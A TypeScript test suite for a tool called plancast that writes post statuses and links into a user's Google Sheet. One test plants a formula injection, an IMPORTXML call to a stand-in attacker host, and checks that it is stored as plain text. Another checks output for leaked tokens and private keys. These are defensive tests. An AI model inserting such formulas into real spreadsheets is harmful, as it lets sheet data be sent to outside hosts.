/** Results go into a sheet of Google: into plancast's own columns, beside the rows that they are about. */
import { expect, test } from "vitest";
import { type ForeignService, startForeignService } from "../../support/foreign-service.ts";
import { afterThisTest } from "../../support/after-test.ts";
import {
  type GoogleStandIn,
  type TestGoogleSheet,
  WRITE_SCOPE,
  startGoogle,
} from "../../support/google-sheets.ts";
import { type TestProject, makeProject } from "../../support/project.ts";
import { type CommandResult, runCommand } from "../../support/run-command.ts";
import { TestClock } from "../../support/test-clock.ts";
import type { TestCell } from "../../support/workbook-files.ts";

const ID = "1AbCdEfGhIjKlMnOpQrStUvWxYz";
const COPY = "calendars/plan.xlsx";
const EMAIL = "plancast@calendar.iam.gserviceaccount.com";

type Row = readonly TestCell[];
const HEADER: Row = ["id", "date", "time", "platforms", "content", "Notes"];
const OWN: Row = [...HEADER, "plancast status", "plancast link"];
const BREAD: Row = ["bread", "2036-03-01", "09:00", "linkedin", "Fresh bread", "Kim"];
const LAMP: Row = ["lamp", "2036-03-02", "09:00", "linkedin", "Our new lamp", ""];

interface World {
  readonly google: GoogleStandIn;
  readonly sheet: TestGoogleSheet;
  readonly service: ForeignService;
  readonly project: TestProject;
  readonly edit: (...rows: readonly Row[]) => void;
  readonly rows: () => readonly Row[];
  readonly run: (...args: string[]) => Promise<CommandResult>;
  readonly write: () => Promise<CommandResult>;
}

interface Given {
  readonly header?: Row;
  readonly rows?: readonly Row[];
  readonly columns?: string;
}

/** A project whose sheet was fetched and applied. */
async function started({
  header = OWN,
  rows = [BREAD, LAMP],
  columns = "Notes",
}: Given = {}): Promise<World> {
  const clock: TestClock = new TestClock(() => service.isBusy());
  const service: ForeignService = await startForeignService({ now: clock.now, shape: { results: "list" } });
  afterThisTest(() => service.close());
  const google = await startGoogle(() => clock.now());
  const sheet: TestGoogleSheet = {
    sheets: [{ name: "Sam's plan", rows: [header, ...rows] }],
    isShared: false,
    viewers: new Set([EMAIL]),
    editors: new Set([EMAIL]),
  };
  google.sheets.set(ID, sheet);
  const from = `https://docs.google.com/spreadsheets/d/${ID}/edit#gid=0`;
  const project = await makeProject({
    config: { timezone: "UTC", calendars: [{ file: COPY, from }], columns: { [columns]: "ignore" } },
  });
  const env = {
    PLANCAST_BASE_URL: service.url,
    PLANCAST_API_KEY: service.key,
    PLANCAST_GOOGLE_ENDPOINT: google.endpoint,
    GOOGLE_SERVICE_ACCOUNT_JSON: google.account(EMAIL).json,
  };
  const run: World["run"] = (...args) => runCommand(args, { cwd: project.root, env, clock });
  for (const args of [["fetch"], ["apply", "--yes"]]) {
    const { code, stderr } = await run(...args);
    expect([code, stderr]).toEqual([0, expect.anything()]);
  }
  return {
    google,
    sheet,
    service,
    project,
    edit: (...changed) => {
      sheet.sheets = [{ name: "Sam's plan", rows: changed }];
    },
    rows: () => sheet.sheets[0]?.rows ?? [],
    run,
    write: () => run("status", "--write"),
  };
}

function said({ stdout, stderr }: CommandResult): string {
  return `${stdout}\n${stderr}`.replaceAll(/\s+/g, " ");
}

test("results go into plancast's own columns, in one request, and are never news", async () => {
  const { google, rows, write, run, project } = await started();
  google.asked.length = 0;
  expect(await write()).toMatchObject({ code: 0 });
  expect(rows()).toEqual([OWN, [...BREAD, "scheduled"], [...LAMP, "scheduled"]]);
  expect(google.asked.filter((each) => each.includes("batchUpdate"))).toHaveLength(1);
  const tree = await project.tree();
  expect(await run("fetch")).toMatchObject({ code: 0, stdout: `${COPY}: nothing new.\n` });
  expect(await project.tree()).toEqual(tree);
  google.asked.length = 0;
  expect(await write()).toMatchObject({ code: 0 });
  expect(google.asked.filter((each) => each.includes("batchUpdate"))).toEqual([]);
});

test("a post that was published gets its link, and a reason from the service never becomes a formula", async () => {
  const { service, rows, write } = await started();
  for (const { id, content } of service.scheduled())
    service.edit(
      id,
      content === "Fresh bread"
        ? { status: "published", results: [{ platform: "linkedin", url: "https://social.example/1" }] }
        : {
            status: "failed",
            results: [{ platform: "linkedin", error: '=IMPORTXML("https://evil.example";"//a")' }],
          },
    );
  await write();
  expect(rows()[1]?.slice(6)).toEqual(["published", "https://social.example/1"]);
  expect(rows()[2]?.[6]).toBe('failed: =IMPORTXML("https://evil.example";"//a")');
});

test("rows that moved or were inserted get their own results, and an edited row is found by its id", async () => {
  const { edit, rows, write } = await started();
  const table = ["table", "2036-03-03", "09:00", "linkedin", "New", ""];
  edit(OWN, table, LAMP, [...BREAD.slice(0, 4), "Fresh bread today", ""]);
  expect(await write()).toMatchObject({ code: 0 });
  expect(rows().map((row) => row[6] ?? "")).toEqual(["plancast status", "", "scheduled", "scheduled"]);
});

test("without an id, an edited row gets no result, and two equal rows get theirs only together", async () => {
  const twins: readonly Row[] = [LAMP.with(0, ""), BREAD.with(0, "")];
  const { edit, rows, write } = await started({ rows: twins });
  edit(OWN, twins[0] ?? [], [...(twins[1] ?? []).slice(0, 4), "Fresh bread today", ""]);
  const { code, stdout, stderr } = await write();
  expect(code).toBe(0);
  expect(stdout + stderr).toContain("write/row-changed");
  expect(rows().map((row) => row[6] ?? "")).toEqual(["plancast status", "scheduled", ""]);
});

test("a cell that somebody filled is never written", async () => {
  const { edit, rows, write } = await started();
  edit(OWN, [...BREAD, "ask Kim first"], LAMP);
  expect(said(await write())).toContain("somebody wrote into its cell in the column “plancast status”");
  expect(rows()).toEqual([OWN, [...BREAD, "ask Kim first"], [...LAMP, "scheduled"]]);
});

test("a sheet that changes while it is read is read again, and not written if it does not stop", async () => {
  const { sheet, edit, rows, write } = await started();
  let edits = 0;
  sheet.onLook = () => {
    edits += 1;
    if (edits === 1) edit(OWN, LAMP, BREAD);
  };
  expect(await write()).toMatchObject({ code: 0 });
  expect(rows()).toEqual([OWN, [...LAMP, "scheduled"], [...BREAD, "scheduled"]]);
  edit(OWN, BREAD, LAMP);
  sheet.onLook = () => {
    edits += 1;
    edit(OWN, BREAD, LAMP, [`row ${edits}`]);
  };
  const refused = await write();
  expect(refused.code).toBe(1);
  expect(said(refused)).toContain("Somebody edits the sheet now.");
  expect(rows().slice(1, 3)).toEqual([BREAD, LAMP]);
});

test("a sheet without the columns says how to add them, and gets nothing", async () => {
  const { rows, write } = await started({ header: HEADER });
  const refused = await write();
  expect(refused.code).toBe(1);
  expect(said(refused)).toContain("The sheet has no columns “plancast status” and “plancast link”.");
  expect(rows()).toEqual([HEADER, BREAD, LAMP]);
});

test.each([
  [
    "a renamed tab",
    ({ sheet }: World) => (sheet.sheets = [{ ...sheet.sheets[0], name: "April" }]),
    "renamed the tab",
  ],
  [
    "a sheet that the account can only read",
    ({ sheet }: World) => sheet.editors?.clear(),
    "Share it with this account as an editor",
  ],
  [
    "a quota that stays used up",
    ({ google }: World) => (google.busy = { times: 9, seconds: 1 }),
    "refuses more requests for now",
  ],
])("%s is an error that says what to do", async (_what, change, says) => {
  const world = await started();
  change(world);
  const { code, stdout, stderr } = await world.write();
  expect(code).toBe(1);
  expect(said({ code, stdout, stderr })).toContain(says);
  expect(stdout + stderr).not.toMatch(/ya29|PRIVATE KEY|eyJ/);
  expect(world.rows()).toEqual([OWN, BREAD, LAMP]);
});

test("a grid without room is an error, and only results need the right to write", async () => {
  const { google, sheet, write, run } = await started();
  sheet.columns = 6;
  expect(said(await write())).toContain("has no room for another column");
  const scopes = google.scopes.length;
  await run("fetch");
  expect(google.scopes.slice(scopes)).not.toContain(WRITE_SCOPE);
});
